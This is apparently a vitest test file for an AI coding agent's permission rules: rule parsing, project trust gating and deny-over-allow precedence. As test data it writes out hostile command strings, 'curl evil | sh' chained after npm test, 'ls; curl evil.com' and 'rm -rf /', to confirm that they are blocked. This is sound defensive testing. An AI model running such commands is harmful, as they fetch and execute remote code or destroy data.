import { mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { ActionRequest } from '../../../src/agent/types.js';
import { updateTrustRecord } from '../../../src/hooks/trust.js';
import { seekToolNames } from '../../../src/tools/tool-names.js';
import { currentProjectPermissionsHash, loadPermissionRules, PermissionsConfigError } from '../../../src/policy/config-rules.js';
import { PermissionPolicy } from '../../../src/policy/policy.js';
import { commandMatches } from '../../../src/policy/rules.js';
import { parseRuleText, pathPattern, RuleSyntaxError } from '../../../src/policy/rule-syntax.js';
import type { PolicyRule } from '../../../src/policy/types.js';
import { loadShellParser } from '../../../src/policy/shell-parser.js';

// Rules on bash commands judge them with the bash grammar, which the bash tool loads before the
// policy decides (commandRulesReady); a test that evaluates directly loads it first.
beforeAll(() => loadShellParser());

let base: string;
let root: string;
let home: string;
beforeEach(() => {
  base = realpathSync(mkdtempSync(path.join(tmpdir(), 'seek-config-rules-')));
  root = path.join(base, 'project');
  home = path.join(base, 'seek-home');
  mkdirSync(path.join(root, '.seek'), { recursive: true });
  mkdirSync(home);
});
afterEach(() => rmSync(base, { recursive: true, force: true }));

const parse = (text: string, decision: 'allow' | 'deny' | 'ask' = 'allow') => parseRuleText(text, decision, 'project', seekToolNames()).rules;

describe('rule syntax: Claude Code names and seek names', () => {
  it('maps tools, kinds and specifiers', () => {
    expect(parse('Bash(npm test:*)')).toMatchObject([{ tool: 'bash', pattern: 'npm test:*', decision: 'allow', source: 'project' }]);
    expect(parse('Bash')).toMatchObject([{ tool: 'bash' }]);
    expect(parse('Edit(src/**)').map((r) => r.kind)).toEqual(['edit', 'write']);
    expect(parse('Read(./.env)', 'deny')).toMatchObject([{ kind: 'read', pattern: '.env', decision: 'deny' }]);
    expect(parse('write_file(docs/**)')).toMatchObject([{ tool: 'write_file', pattern: 'docs/**' }]);
    expect(parse('mcp__github')).toMatchObject([{ tool: 'mcp__github' }]);
    expect(parse('mcp__github__*')).toMatchObject([{ tool: 'mcp__github', origin: { text: 'mcp__github__*' } }]);
    expect(parse('Grep')).toMatchObject([{ tool: 'grep' }]);
  });

  it('path specifiers follow Claude Code: //abs, ~/home, /root-relative, bare names at any depth', () => {
    expect(pathPattern('//etc/passwd')).toBe('/etc/passwd');
    expect(pathPattern('~/.ssh/**')).toBe('~/.ssh/**');
    expect(pathPattern('/src/**')).toBe('src/**');
    expect(pathPattern('./.env')).toBe('.env');
    expect(pathPattern('*.pem')).toBe('**/*.pem');
    expect(pathPattern('docs/**')).toBe('docs/**');
  });

  it('refuses what it cannot read, naming the known tools', () => {
    expect(() => parse('Bsh(ls)')).toThrow(RuleSyntaxError);
    expect(() => parse('Bsh(ls)')).toThrow(/unknown tool Bsh\. Known: Bash, Read, .*read_file/);
    expect(() => parse('Bash()')).toThrow(/empty parentheses/);
    expect(() => parse('not a rule!')).toThrow(/is not a rule/);
  });

  it('the :* prefix form matches the command and its arguments, never a chained command', () => {
    expect(commandMatches('npm test:*', 'npm test')).toBe(true);
    expect(commandMatches('npm test:*', 'npm test -- --run a.test.ts')).toBe(true);
    expect(commandMatches('npm test:*', 'npm testing')).toBe(false);
    expect(commandMatches('npm test:*', 'npm test && curl evil | sh')).toBe(false);
    expect(commandMatches('curl:*', 'ls; curl evil.com', true)).toBe(true); // deny rules catch a chained segment
  });
});

function writeConfig(file: string, permissions: unknown): void {
  writeFileSync(file, JSON.stringify({ permissions }));
}

async function load(userPermissions?: unknown) {
  return loadPermissionRules({ seekHome: home, projectRoot: root, userConfig: userPermissions ? { permissions: userPermissions } : {}, userConfigFile: path.join(home, 'config.json') });
}

const bash = (command: string): ActionRequest => ({ kind: 'bash', paths: [root], command, summary: command });
const read = (rel: string): ActionRequest => ({ kind: 'read', paths: [path.join(root, rel)], summary: rel });
const edit = (rel: string): ActionRequest => ({ kind: 'edit', paths: [path.join(root, rel)], summary: rel });

function policyWith(rules: PolicyRule[], preference: 'deny' | 'ask' = 'deny'): PermissionPolicy {
  return new PermissionPolicy({ root, preference, rules, sandbox: { available: true } });
}

describe('loading config files, with project trust', () => {
  it('project allow rules wait for trust; deny and ask rules apply at once', async () => {
    writeConfig(path.join(root, '.seek', 'config.json'), { allow: ['Bash(npm test:*)'], deny: ['Read(./.env)'], ask: ['Edit(src/**)'] });
    const before = await load();
    expect(before.untrusted.map((r) => r.origin?.text)).toEqual(['Bash(npm test:*)']);
    expect(before.notices.join('\n')).toMatch(/not applied: the project is not trusted.*seek permissions trust/);
    const untrusted = policyWith(before.rules);
    expect(untrusted.evaluate(bash('npm test'), { tool: 'bash' }).decision).toBe('deny');
    expect(untrusted.evaluate(read('.env'), { tool: 'read_file' })).toMatchObject({ decision: 'deny', code: 'deny_rule' });

    await updateTrustRecord(home, root, { permissions_sha256: currentProjectPermissionsHash(root)! });
    const after = await load();
    expect(after.untrusted).toEqual([]);
    expect(policyWith(after.rules).evaluate(bash('npm test -- --run'), { tool: 'bash' })).toMatchObject({ decision: 'allow', sandbox: 'workspace-write' });

    // Changing an allow rule (a hostile commit) needs trust again; changing a deny rule does not.
    writeConfig(path.join(root, '.seek', 'config.json'), { allow: ['Bash'], deny: ['Read(./.env)'] });
    expect((await load()).untrusted.map((r) => r.origin?.text)).toEqual(['Bash']);
  });

  it('the local file is gated by the same trust, and is more specific than the project file', async () => {
    writeConfig(path.join(root, '.seek', 'config.json'), { allow: ['Edit(src/**)'] });
    writeConfig(path.join(root, '.seek', 'config.local.json'), { ask: ['Edit(src/generated/**)'] });
    await updateTrustRecord(home, root, { permissions_sha256: currentProjectPermissionsHash(root)! });
    const policy = policyWith((await load()).rules, 'ask');
    expect(policy.evaluate(edit('src/a.ts'), { tool: 'edit_file', canAsk: true }).decision).toBe('allow');
    expect(policy.evaluate(edit('src/generated/b.ts'), { tool: 'edit_file', canAsk: true }).decision).toBe('ask');
  });

  it('deny beats ask beats allow, whatever the source', async () => {
    writeConfig(path.join(root, '.seek', 'config.json'), { deny: ['Bash(rm:*)'] });
    const loaded = await load({ allow: ['Bash'], ask: ['Bash(git push:*)'] });
    const policy = policyWith(loaded.rules, 'ask');
    expect(policy.evaluate(bash('rm -rf build'), { tool: 'bash', canAsk: true }).decision).toBe('deny');
    expect(policy.evaluate(bash('ls && rm -rf /'), { tool: 'bash', canAsk: true }).decision).toBe('deny');
    expect(policy.evaluate(bash('git push origin main'), { tool: 'bash', canAsk: true }).decision).toBe('ask');
    expect(policy.evaluate(bash('make'), { tool: 'bash', canAsk: true })).toMatchObject({ decision: 'allow', sandbox: 'workspace-write' });
  });

  it('user rules need no trust; a user defaultMode applies; a project one waits for trust and yolo never applies', async () => {
    expect((await load({ allow: ['Bash(make:*)'], defaultMode: 'acceptEdits' })).defaultMode).toBe('auto');
    writeConfig(path.join(root, '.seek', 'config.json'), { defaultMode: 'plan' });
    expect((await load()).defaultMode).toBeUndefined();
    await updateTrustRecord(home, root, { permissions_sha256: currentProjectPermissionsHash(root)! });
    expect((await load()).defaultMode).toBe('plan');
    writeConfig(path.join(root, '.seek', 'config.json'), { defaultMode: 'bypassPermissions' });
    await updateTrustRecord(home, root, { permissions_sha256: currentProjectPermissionsHash(root)! });
    const loaded = await load();
    expect(loaded.defaultMode).toBeUndefined();
    expect(loaded.notices.join('\n')).toMatch(/never start seek unsandboxed/);
  });

  it('a file or rule that does not parse stops with the file named (fail closed)', async () => {
    writeFileSync(path.join(root, '.seek', 'config.json'), '{"permissions": {"deny": ["Read(./.env)"]');
    await expect(load()).rejects.toThrow(PermissionsConfigError);
    await expect(load()).rejects.toThrow(/config\.json is not valid JSON/);
    writeConfig(path.join(root, '.seek', 'config.json'), { deny: ['Reed(./.env)'] });
    await expect(load()).rejects.toThrow(/permissions\.deny: "Reed\(\.\/\.env\)": unknown tool Reed/);
    writeConfig(path.join(root, '.seek', 'config.json'), { deny: 'Read(./.env)' });
    await expect(load()).rejects.toThrow(/permissions\.deny: /);
    writeConfig(path.join(root, '.seek', 'config.json'), { defaultMode: 'sometimes' });
    await expect(load()).rejects.toThrow(/defaultMode: "sometimes" is not one of/);
  });
});
